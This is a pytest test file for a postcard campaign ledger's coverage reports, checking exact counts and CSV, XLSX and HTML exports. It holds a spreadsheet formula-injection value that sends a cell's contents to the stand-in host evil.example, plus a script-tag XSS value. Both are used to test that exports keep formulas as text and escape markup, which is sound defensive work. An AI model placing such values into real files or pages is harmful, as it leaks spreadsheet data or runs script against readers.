"""Coverage reports on a fixture ledger: exact counts, and names that look like formulas."""

from __future__ import annotations

import csv
import random
import re
from pathlib import Path

import pytest
from conftest import run

from postcards.codes import new_code
from postcards.errors import UsageError
from postcards.ledger.book import Ledger
from postcards.ledger.coverage import Directory, build_report
from postcards.ledger.model import LedgerCard
from postcards.ledger.report_files import write_report

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AT = "2025-03-01T09:30:00Z"


def _card(rng: random.Random, sender: tuple[str, str], prisoner: tuple[str, str]) -> LedgerCard:
    return LedgerCard(new_code(rng), "spring", "1", sender[0], prisoner[0], "ru", sender[1],
                      prisoner[1], f"Дорогой {prisoner[1]}")  # fmt: skip


@pytest.fixture
def ledger(tmp_path: Path):
    """Three senders, four prisoners, six cards in every state that counts differently."""
    rng = random.Random(3)
    anna, evil, jan = ("S1", "Anna Berg"), ("S2", EVIL), ("S3", "Jan Novák")
    ales, maria, ihar, pavel = ("P1", "Алесь"), ("P2", "Марыя"), ("P3", "Ігар"), ("P4", "-Павел")
    cards = {
        "sent": _card(rng, anna, ales),
        "returned": _card(rng, evil, ales),
        "reply": _card(rng, jan, maria),
        "void": _card(rng, anna, ihar),
        "generated": _card(rng, evil, ihar),
        "printed": _card(rng, jan, pavel),
    }
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        ledger.record_generated(cards.values(), at=AT)
        ledger.record_event(cards["sent"].code, "sent", "desk", at="2025-03-02T10:00:00Z")
        ledger.record_event(cards["returned"].code, "sent", "desk", at="2025-03-03T10:00:00Z")
        ledger.record_event(cards["returned"].code, "returned", "desk", at="2025-03-20T10:00:00Z")
        ledger.record_event(cards["reply"].code, "sent", "desk", at="2025-03-03T11:00:00Z")
        ledger.record_event(cards["reply"].code, "reply", "desk", at="2025-04-01T10:00:00Z")
        ledger.record_event(cards["void"].code, "void", "desk")
        ledger.record_event(cards["printed"].code, "printed", "desk")
        yield ledger


DIRECTORY = Directory(
    parliaments={"S1": "European Parliament", "S2": "Sejm", "S3": "European Parliament"},
    prisoners={"P1": "Алесь", "P2": "Марыя", "P3": "Ігар", "P4": "-Павел", "P5": "Zoja"},
)


def test_exact_counts(ledger: Ledger) -> None:
    report = build_report(ledger, "spring", DIRECTORY)
    assert report.totals == {"generated": 1, "printed": 1, "reply": 1, "returned": 1,
                             "sent": 1, "void": 1}  # fmt: skip
    rows = [(r.prisoner_id, r.generated, r.sent, r.returned, r.last_sent)
            for r in report.prisoners]  # fmt: skip
    assert rows == [
        ("P3", 1, 0, 0, ""),  # the void card counts nowhere
        ("P4", 1, 0, 0, ""),
        ("P5", 0, 0, 0, ""),  # in custody, no card at all
        ("P2", 1, 1, 0, "2025-03-03T11:00:00Z"),  # a reply still counts as sent
        ("P1", 2, 2, 1, "2025-03-03T10:00:00Z"),  # a returned card too
    ]
    assert [r.prisoner_id for r in report.unreached] == ["P3", "P4", "P5"]
    senders = {r.sender_id: (r.parliament, r.generated, r.sent, r.returned, r.replies)
               for r in report.senders}  # fmt: skip
    assert senders == {
        "S1": ("European Parliament", 1, 1, 0, 0),
        "S2": ("Sejm", 2, 1, 1, 0),
        "S3": ("European Parliament", 2, 1, 0, 1),
    }
    assert [(p.parliament, p.senders, p.generated, p.sent, p.returned)
            for p in report.parliaments] == [
        ("European Parliament", 2, 3, 2, 0), ("Sejm", 1, 2, 1, 1)]  # fmt: skip
    assert report.coverage == [("2025-03-02", 1), ("2025-03-03", 2)]


def test_csv_writes_one_table_per_file_and_keeps_formulas_as_text(ledger, tmp_path) -> None:
    paths = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.csv")
    assert [p.name for p in paths] == ["r.prisoners.csv", "r.senders.csv", "r.parliaments.csv",
                                       "r.offices.csv", "r.totals.csv"]  # fmt: skip
    assert not (tmp_path / "r.csv").exists()
    tables = [list(csv.reader(p.read_text(encoding="utf-8-sig").splitlines())) for p in paths]
    assert tables[0][0] == ["prisoner_id", "prisoner_name", "generated", "sent", "returned",
                            "last_sent"]  # fmt: skip
    assert tables[1][0][:2] == ["sender_id", "sender_name"]
    assert all(row for table in tables for row in table)  # no blank line, no second header
    cells = [cell for table in tables for row in table for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert "'-Павел" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-")]
    assert ["P5", "Zoja", "0", "0", "0", ""] in tables[0]


def test_csv_table_option_writes_that_table_to_the_path(ledger, tmp_path) -> None:
    report = build_report(ledger, "spring", DIRECTORY)
    [path] = write_report(report, tmp_path / "p.csv", table="prisoners")
    assert path == tmp_path / "p.csv"
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0][0] == "prisoner_id" and len(rows) == 1 + len(report.prisoners)
    with pytest.raises(UsageError, match="no table 'cards'; use prisoners, senders"):
        write_report(report, tmp_path / "x.csv", table="cards")


def test_xlsx_has_a_readable_sheet_per_table_and_formulas_stay_text(ledger, tmp_path) -> None:
    from openpyxl import load_workbook

    [path] = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["Prisoners", "Senders", "Parliaments", "Offices", "Totals"]
    senders = book["Senders"]
    evil = [row for row in senders.iter_rows(min_row=2) if row[0].value == "S2"][0][1]
    assert evil.value == EVIL  # nothing visible added in front of the name
    assert evil.data_type == "s"  # and still text, not a formula
    pavel = [row for row in book["Prisoners"].iter_rows(min_row=2) if row[0].value == "P4"]
    assert pavel[0][1].value == "-Павел" and pavel[0][1].data_type == "s"
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows()
               for cell in row)  # fmt: skip
    assert all(sheet.freeze_panes == "A2" for sheet in book)  # the header stays in view
    assert senders.column_dimensions["B"].width >= len(EVIL)  # names are not cut off
    assert senders.column_dimensions["A"].width < 20
    assert [c.value for c in book["Prisoners"][1]] == [
        "prisoner_id",
        "prisoner_name",
        "generated",
        "sent",
        "returned",
        "last_sent",
    ]
    assert book["Prisoners"]["D6"].value == 2  # counts stay numbers


def test_ids_sort_naturally_in_the_report(tmp_path) -> None:
    rng = random.Random(5)
    ids = ["P31", "P4", "P40", "P3", "P5", "P100"]
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        ledger.record_generated([_card(rng, ("S1", "Anna"), (pid, pid)) for pid in ids], at=AT)
        report = build_report(ledger, "spring")
    assert [r.prisoner_id for r in report.prisoners] == ["P3", "P4", "P5", "P31", "P40", "P100"]


def test_html_is_one_self_contained_file(ledger, tmp_path) -> None:
    [path] = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.html")
    page = path.read_text(encoding="utf-8")
    assert page.count("<svg") == 2
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)""", page)
    assert "=HYPERLINK(&#34;http://evil" in page and 'HYPERLINK("' not in page
    assert "3 of 5 prisoners" not in page and "2 of 5 prisoners have had a card sent" in page


def test_html_escapes_a_prisoner_name_that_is_markup(tmp_path) -> None:
    rng = random.Random(9)
    script = '<script>alert("x")</script>'
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        ledger.record_generated([_card(rng, ("S1", "<b>Anna</b>"), ("P1", script))], at=AT)
        report = build_report(ledger, "spring", Directory({"S1": "<i>EP</i>"}, {"P2": script}))
        [path] = write_report(report, tmp_path / "r.html")
    page = path.read_text(encoding="utf-8")
    assert "<script" not in page and "<b>" not in page and "<i>" not in page
    assert page.count("&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") == 2  # P1's and P2's
    assert "&lt;b&gt;Anna&lt;/b&gt;" in page and "&lt;i&gt;EP&lt;/i&gt;" in page


def test_unknown_format_is_a_usage_error(ledger, tmp_path) -> None:
    with pytest.raises(UsageError, match=r"r\.pdf: write the report as \.csv, \.xlsx, \.html"):
        write_report(build_report(ledger, "spring"), tmp_path / "r.pdf")
    assert list(tmp_path.glob("r.*")) == []


def test_track_report_command(ledger, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("POSTCARDS_DATABASE", f"sqlite:///{ledger.path}")
    (tmp_path / "campaign.toml").write_text('[campaign]\nname = "spring"\n')
    result = run("track", "report", cwd=tmp_path)
    assert result.exit_code == 0, result.stderr
    assert "prisoners: 2 of 4 have had a card sent" in result.stdout
    assert "nothing sent yet: P3 Ігар" in result.stdout
    result = run("track", "report", "-o", "out/report.xlsx", cwd=tmp_path)
    assert result.exit_code == 0 and (tmp_path / "out" / "report.xlsx").is_file()
    result = run("track", "report", "--table", "senders", "-o", "s.csv", cwd=tmp_path)
    assert result.exit_code == 0 and "report -> s.csv" in result.stdout
    assert (tmp_path / "s.csv").read_text(encoding="utf-8-sig").startswith("sender_id,")
    result = run("track", "report", "-o", "r.csv", cwd=tmp_path)
    assert "report -> r.prisoners.csv\nreport -> r.senders.csv" in result.stdout
    assert run("track", "report", "--table", "cards", "-o", "s.csv", cwd=tmp_path).exit_code == 2


def test_the_cli_offers_the_reports_tables() -> None:
    from postcards.cli.tracking import REPORT_TABLES
    from postcards.ledger.coverage import TABLES

    assert REPORT_TABLES == TABLES


def _chromium() -> str:
    """Debian's chromium, or a skip (a failure when CI says it must be there)."""
    import os
    import shutil

    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        reason = "chromium is not installed (apt-get install chromium) to render the HTML report"
        if os.environ.get("POSTCARDS_REQUIRE_CHROMIUM") == "1":
            pytest.fail(reason + "; POSTCARDS_REQUIRE_CHROMIUM=1 requires it")
        pytest.skip(reason)
    return found


def _in_chromium(page: Path, *args: str) -> str:
    """What headless chromium makes of a local page: its DOM as the browser parsed it."""
    import subprocess
    import tempfile

    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(
            [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
             "--no-first-run", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", f"--user-data-dir={profile}", *args, page.as_uri()],
            capture_output=True, text=True, timeout=60, check=True,
        )  # fmt: skip
    return done.stdout


def _shown_svg_labels(dom: str) -> list[str]:
    """The text of every SVG <text> the browser placed directly in a chart (inside a
    <path> or <rect> it is never drawn)."""
    from html.parser import HTMLParser

    class Labels(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.stack: list[str] = []
            self.labels: list[str] = []

        def handle_starttag(self, tag, attrs) -> None:
            self.stack.append(tag)
            if tag == "text" and self.stack[-2:-1] == ["svg"]:
                self.labels.append("")

        def handle_startendtag(self, tag, attrs) -> None:
            pass

        def handle_endtag(self, tag) -> None:
            while self.stack and self.stack.pop() != tag:
                pass

        def handle_data(self, data) -> None:
            if self.stack[-1:] == ["text"] and self.stack[-2:-1] == ["svg"]:
                self.labels[-1] += data

    parser = Labels()
    parser.feed(dom)
    return parser.labels


def test_html_chart_labels_show_in_a_browser(ledger, tmp_path) -> None:
    [path] = write_report(build_report(ledger, "spring", DIRECTORY), tmp_path / "r.html")
    labels = _shown_svg_labels(_in_chromium(path, "--dump-dom"))
    assert "prisoners reached" in labels
    assert "2025-03-02" in labels and "2025-03-03: 2 of 5" in labels
    assert "European Parliament" in labels and "2 of 3 sent" in labels
    shot = tmp_path / "report.png"
    _in_chromium(path, f"--screenshot={shot}", "--window-size=900,1400")
    assert shot.stat().st_size > 10_000
